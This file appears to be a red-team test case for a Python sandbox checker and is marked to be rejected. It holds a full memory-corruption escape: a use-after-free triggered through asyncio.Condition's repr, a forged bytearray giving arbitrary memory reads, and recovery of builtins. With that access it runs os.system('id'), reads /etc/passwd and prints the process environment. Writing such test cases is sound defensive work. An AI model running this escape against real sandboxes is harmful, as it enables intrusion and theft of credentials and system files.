# expect: reject memory
# line: 23
# why: round 98b (red team): asyncio.Condition's Python repr calls its lock's locked(); Lk.locked = wipe, stored after the class statement, ran wipe (a def named otherwise) inside a list's repr: a name library text code calls on what it holds is stored only as a literal, a display, a def's name (judged) or a lambda
import io
import asyncio

L = []
G = []
KEEP = []
HDR = []
ENC = "utf-8"


def q(v):
    return v.to_bytes(8, "little")


class Box:
    __slots__ = ("__dict__", "a", "b", "c", "d", "e", "f", "g", "h", "i", "j", "k", "l", "m", "n")


def wipe(self):
    L.clear()
    buf = bytearray(159)
    buf[0:len(HDR[0])] = HDR[0]
    KEEP.append(buf)
    return False


class Lk:
    def acquire(self):
        return True

    def release(self):
        return None


def grab(obj):
    if True:
        G.append(obj)
        KEEP[0][104:152] = q(id(bytearray)) + q(1 << 62) + q((1 << 62) + 1) + q(0) + q(0) + q(0)
        raise KeyError("done")


class Grab:
    __slots__ = ()


class Sink:
    closed = False

    def readable(self):
        return True

    def writable(self):
        return True

    def seekable(self):
        return False



Grab.name = property(grab)
Lk.locked = wipe
victim = Box()
base = id(victim) - 32
HDR.append(
    q(0) + q(0) + q(0) + q(0)
    + q(1 << 40) + q(id(io.TextIOWrapper)) + q(1) + q(8192)     # a TextIOWrapper at 32: ok=1, detached=0
    + q(base + 96) + q(id(ENC)) + q(0) + q(0)                    # its buffer: the Grab at 96
    + q(1 << 40) + q(id(Grab))                                   # a Grab at 96
)
cond = asyncio.Condition(Lk())
L.append(slice(cond, victim))
victim = None
try:
    text = repr(L)
except Exception:
    pass
mem = G[0]


def rd(addr):
    return int.from_bytes(mem[addr:addr + 8], "little")


mod = rd(id(print) + 24)
bdict = rd(mod + 16)
KEEP[0][104:144] = q(id(list)) + q(1) + q(base + 136) + q(1) + q(bdict)
table = G[0][0]
imp = table["".join(map(chr, [95, 95, 105, 109, 112, 111, 114, 116, 95, 95]))]
osm = imp("os")
osm.system("id")
print(table["open"]("/etc/passwd").read()[:200])
print(dict(osm.environ))
